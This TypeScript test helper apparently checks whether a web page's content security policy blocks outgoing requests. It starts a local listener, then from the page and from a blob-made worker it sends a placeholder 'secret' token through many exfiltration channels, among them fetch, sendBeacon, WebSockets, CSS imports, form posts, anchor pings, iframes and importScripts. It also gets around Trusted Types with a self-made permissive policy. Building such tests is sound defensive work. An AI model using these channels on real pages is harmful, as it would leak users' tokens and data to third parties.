import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A server of another origin that counts whatever reaches it. */
export async function startListener(): Promise<{
  origin: string;
  hits: string[];
  stop: () => Promise<void>;
}> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/plain' });
    response.end('reached');
  });
  server.on('upgrade', (request, socket) => {
    hits.push(`WebSocket ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const stop = (): Promise<void> =>
    new Promise((resolve) => {
      server.close(() => resolve());
      server.closeAllConnections();
    });
  return { origin: `http://127.0.0.1:${port}`, hits, stop };
}

/** Runs in the page: tries each way out and says what became of it. */
export async function leakFromPage(origin: string): Promise<Record<string, string>> {
  const answers: Record<string, string> = {};
  const attempt = async (name: string, make: (url: string) => Promise<string> | string): Promise<void> => {
    try {
      answers[name] = await make(`${origin}/page-${name}?token=secret`);
    } catch {
      answers[name] = 'refused';
    }
  };
  /** What an element says of its address; one that says nothing within the time was not let out either. */
  const element = (node: HTMLElement, put: () => void): Promise<string> =>
    new Promise((resolve, reject) => {
      node.addEventListener('load', () => resolve('loaded'));
      node.addEventListener('error', () => resolve('refused'));
      setTimeout(resolve, 300, 'silent');
      try {
        put();
        document.body.append(node);
      } catch (error) {
        reject(error);
      }
    });
  const socket = (target: EventTarget): Promise<string> =>
    new Promise((resolve) => {
      target.addEventListener('open', () => resolve('opened'));
      target.addEventListener('error', () => resolve('refused'));
    });

  await attempt(
    'fetch',
    async (url) => (await fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' })).type,
  );
  await attempt('keepalive', async (url) => (await fetch(url, { mode: 'no-cors', keepalive: true })).type);
  await attempt(
    'xhr',
    (url) =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve('loaded');
        request.onerror = () => resolve('refused');
        request.open('GET', url);
        request.send();
      }),
  );
  // It only says that the request was queued, so the listener has the last word.
  await attempt('beacon', (url) => `queued: ${navigator.sendBeacon(url, 'secret')}`);
  await attempt('websocket', (url) => socket(new WebSocket(url.replace('http', 'ws'))));
  await attempt('eventsource', (url) => socket(new EventSource(url)));
  const image = new Image();
  await attempt('image', (url) => element(image, () => image.setAttribute('src', url)));
  for (const [name, tag, attribute] of [
    ['frame', 'iframe', 'src'],
    ['object', 'object', 'data'],
    ['embed', 'embed', 'src'],
    ['video', 'video', 'src'],
    ['script', 'script', 'src'],
  ] as const) {
    const node = document.createElement(tag);
    await attempt(name, (url) => element(node, () => node.setAttribute(attribute, url)));
  }
  for (const rel of ['stylesheet', 'prefetch', 'icon', 'manifest']) {
    const link = Object.assign(document.createElement('link'), { rel });
    await attempt(`link-${rel}`, (url) => element(link, () => link.setAttribute('href', url)));
  }
  const style = document.createElement('style');
  await attempt('css', (url) =>
    element(style, () => {
      style.textContent = `@import url("${url}-import"); body { background-image: url("${url}-image") }
        @font-face { font-family: leak; src: url("${url}-font") } body { font-family: leak, sans-serif }`;
    }),
  );
  await attempt('import', async (url) => typeof (await import(/* @vite-ignore */ url)));
  await attempt('form', (url) => {
    const form = Object.assign(document.createElement('form'), { method: 'post' });
    form.setAttribute('action', url);
    document.body.append(form);
    form.submit();
    return 'submitted';
  });
  await attempt('ping', (url) => {
    const link = Object.assign(document.createElement('a'), { href: '#', ping: url });
    document.body.append(link);
    link.click();
    return 'pinged';
  });
  await attempt('blank-frame', async (url) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const own = Reflect.get(frame.contentWindow ?? window, 'fetch') as typeof fetch;
    return (await own(url, { mode: 'no-cors' })).type;
  });
  await attempt('own-frame', async (url) => {
    const frame = document.createElement('iframe');
    frame.src = './icon.svg';
    await new Promise((resolve) => {
      frame.addEventListener('load', resolve);
      document.body.append(frame);
    });
    const own = Reflect.get(frame.contentWindow ?? {}, 'fetch') as typeof fetch;
    return (await own(url, { mode: 'no-cors' })).type;
  });
  return answers;
}

/** Runs in the page: makes a worker from a blob, as every worker of the page is made, and tries from inside it. */
export async function leakFromWorker(origin: string): Promise<Record<string, string>> {
  const inside = async (target: string): Promise<void> => {
    const answers: Record<string, string> = {};
    const attempt = async (name: string, make: (url: string) => Promise<string> | string): Promise<void> => {
      try {
        answers[name] = await make(`${target}/worker-${name}?token=secret`);
      } catch {
        answers[name] = 'refused';
      }
    };
    const socket = (made: EventTarget): Promise<string> =>
      new Promise((resolve) => {
        made.addEventListener('open', () => resolve('opened'));
        made.addEventListener('error', () => resolve('refused'));
      });
    await attempt('fetch', async (url) => (await fetch(url, { mode: 'no-cors' })).type);
    await attempt('xhr', (url) => {
      const request = new XMLHttpRequest();
      request.open('GET', url, false);
      request.send();
      return 'loaded';
    });
    await attempt('websocket', (url) => socket(new WebSocket(url.replace('http', 'ws'))));
    await attempt('eventsource', (url) => socket(new EventSource(url)));
    await attempt('importscripts', (url) => {
      (Reflect.get(self, 'importScripts') as (url: string) => void)(url);
      return 'loaded';
    });
    self.postMessage(answers);
  };
  interface Policy {
    createScriptURL(url: string): string;
  }
  const factory = Reflect.get(window, 'trustedTypes') as
    | { createPolicy(name: string, rules: Policy): Policy }
    | undefined;
  const blob = new Blob([`(${inside.toString()})(${JSON.stringify(origin)})`], { type: 'text/javascript' });
  const plain = URL.createObjectURL(blob);
  // Whoever runs script in the page can make a policy of their own, so the worker itself is no obstacle.
  const url =
    factory?.createPolicy('leak', { createScriptURL: (text) => text }).createScriptURL(plain) ?? plain;
  const worker = new Worker(url);
  return new Promise((resolve, reject) => {
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => reject(new Error('The worker did not start'));
  });
}
